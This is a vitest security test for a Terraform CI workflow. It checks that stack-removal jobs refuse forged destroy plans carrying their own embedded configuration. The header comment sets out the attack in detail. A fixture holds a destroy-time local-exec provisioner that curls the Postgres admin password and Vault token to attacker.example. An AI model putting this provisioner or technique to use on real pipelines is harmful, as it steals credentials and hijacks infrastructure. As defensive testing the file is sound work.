// attack6b: a removed stack's destroy plan is applied with whatever configuration the PR run put in
// it. For every stack main still has, the apply job refuses a plan whose embedded configuration
// (tfplan's tfconfig/) or provider lock is not main's (VERIFY_CONFIG_SCRIPT) and stages main's files.
// The remove-* jobs only compare the plan's sha256 with the index the same (PR-controlled) run wrote
// and require `terraform show -json` to list deletes only; then `terraform init -lockfile=readonly`
// reads the ARTIFACT's own cdk.tf.json and .terraform.lock.hcl and `terraform apply tfplan` runs the
// plan's own embedded configuration. A pull request that removes (and properly retires) a stack can
// therefore ship a destroy plan whose configuration adds a destroy-time `local-exec` provisioner (or
// points the postgresql provider at another host, or sources a provider from another namespace with
// a lock file to match): every action is still "delete", so it passes, and it runs in the gating
// tier's environment holding that tier's applier Vault token, the server's admin password
// (TF_VAR_pg_admin_password) and the tier's state-writing AWS role. For a dev sandbox this needs no
// approval at all (automatic on merge); for erp-sandbox it is the prod superuser, behind an approval
// of what the job title calls a routine destroy. Real terraform 1.11 confirms a deletes-only destroy
// plan runs such a provisioner with the job's environment (see the report).
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { testTmp } from '../setup/tmpdir';

const workflow = parse(readFileSync(join(__dirname, '../../.github/workflows/tierkit-apply.yml'), 'utf8'));

const HOSTILE = JSON.stringify({
  terraform: { required_providers: { postgresql: { source: 'cyrilgdn/postgresql', version: '1.25.0' } } },
  resource: {
    postgresql_role: {
      group_role: {
        name: 'crm_alice_role',
        provisioner: [{ 'local-exec': { when: 'destroy', command: 'curl -d "$TF_VAR_pg_admin_password $VAULT_TOKEN" https://attacker.example/' } }],
      },
    },
  },
});

/** What `terraform show -json` prints for the forged plan: every action a delete. */
const SHOWN = JSON.stringify({ resource_changes: [{ address: 'postgresql_role.group_role', change: { actions: ['delete'] } }] });

function forgedStack(dir: string): string {
  const stack = join(dir, 'stack');
  const z = join(dir, 'zip');
  mkdirSync(join(z, 'tfconfig/m-'), { recursive: true });
  writeFileSync(join(z, 'tfconfig/m-/cdk.tf.json'), HOSTILE);
  writeFileSync(join(z, 'tfconfig/modules.json'), '{"Modules":[{"Key":"","Source":"","Dir":"."}]}');
  writeFileSync(join(z, '.terraform.lock.hcl'), '# forged\n');
  writeFileSync(join(z, 'tfstate'), '{}');
  mkdirSync(stack, { recursive: true });
  const r = spawnSync('zip', ['-qr', join(stack, 'tfplan.zip'), 'tfconfig', '.terraform.lock.hcl', 'tfstate'], { cwd: z });
  if (r.status !== 0) throw new Error(`zip: ${r.stderr}`);
  renameSync(join(stack, 'tfplan.zip'), join(stack, 'tfplan'));
  writeFileSync(join(stack, 'cdk.tf.json'), HOSTILE);
  writeFileSync(join(stack, '.terraform.lock.hcl'), '# forged\n');
  return createHash('sha256').update(readFileSync(join(stack, 'tfplan'))).digest('hex');
}

/** Run the job's `run:` steps in order up to its apply, as the runner would for one matrix entry (uses: steps are stand-ins). */
function runJob(jobId: string, matrix: { stack: string; server: string; gatingTier: string }): { applied: boolean; log: string } {
  const job = workflow.jobs[jobId];
  const dir = testTmp('ci', `attack6b-remove-${process.pid}-${jobId}-${matrix.stack}`);
  mkdirSync(join(dir, 'bin'), { recursive: true });
  writeFileSync(join(dir, 'bin', 'terraform'), `#!/bin/bash\ncase "$1" in show) echo '${SHOWN}' ;; apply) touch "${dir}/applied" ;; esac\n`, { mode: 0o755 });
  const sha = forgedStack(dir);
  const plans = JSON.stringify({ [matrix.stack]: sha });
  const expr = (e: string): string => {
    const x = e.trim();
    if (x === 'matrix.stack') return matrix.stack;
    if (x === 'matrix.server') return matrix.server;
    if (x === 'matrix.gatingTier') return matrix.gatingTier;
    if (x === 'fromJSON(needs.locate.outputs.plans)[matrix.stack]') return sha;
    if (x === 'needs.locate.outputs.plans') return plans;
    if (x.startsWith('env.')) return String(job.env?.[x.slice(4)] ?? workflow.env?.[x.slice(4)] ?? '');
    return '';
  };
  const sub = (v: unknown) => String(v).replace(/\$\{\{([^}]+)\}\}/g, (_w, e: string) => expr(e));
  let log = '';
  const githubEnv = join(dir, '.env');
  writeFileSync(githubEnv, '');
  for (const s of job.steps) {
    if (!s.run) continue;
    if (s.if) {
      const m = /^matrix\.server == '([^']*)'$/.exec(String(s.if).trim());
      if (!m) continue; // always() steps run after the apply; nothing else is conditional
      if (m[1] !== matrix.server) continue;
    }
    const env: Record<string, string> = { PATH: `${join(dir, 'bin')}:${process.env.PATH}`, HOME: dir, GITHUB_OUTPUT: join(dir, '.out'), GITHUB_ENV: githubEnv, RUNNER_TEMP: dir, GITHUB_WORKSPACE: dir };
    for (const [k, v] of Object.entries({ ...(workflow.env ?? {}), ...(job.env ?? {}), ...(s.env ?? {}) })) env[k] = sub(v);
    if (env.CA_FILE) env.CA_FILE = join(dir, 'ca', 'server.pem'); // never the runner-wide path on a shared test machine
    const cwd = s['working-directory'] ? join(dir, s['working-directory']) : dir;
    const r = spawnSync('bash', ['-e', '-o', 'pipefail', '-c', s.run], { cwd, env, encoding: 'utf8' });
    log += `--- ${s.name}: ${r.status}\n${r.stdout}${r.stderr}`;
    if (r.status !== 0) break;
    if (/terraform apply/.test(s.run)) break;
  }
  return { applied: existsSync(join(dir, 'applied')), log };
}

describe("attack6b: a removed stack's destroy plan carries its own configuration", () => {
  it('remove-app-environments refuses a deletes-only destroy plan of crm-alice whose embedded configuration is not the stack main synthesized before the push', () => {
    const r = runJob('remove-app-environments', { stack: 'crm-alice', server: 'nonprod-pg', gatingTier: 'dev' });
    expect(r.applied, r.log).toBe(false);
  });
  it('remove-app-environments refuses the same for erp-sandbox (prod-pg superuser, prod applier)', () => {
    const r = runJob('remove-app-environments', { stack: 'erp-sandbox', server: 'prod-pg', gatingTier: 'prod' });
    expect(r.applied, r.log).toBe(false);
  });
  it('remove-platforms refuses the same for platform-dev (platform-admin)', () => {
    const r = runJob('remove-platforms', { stack: 'platform-dev', server: '', gatingTier: 'prod' });
    expect(r.applied, r.log).toBe(false);
  });
});
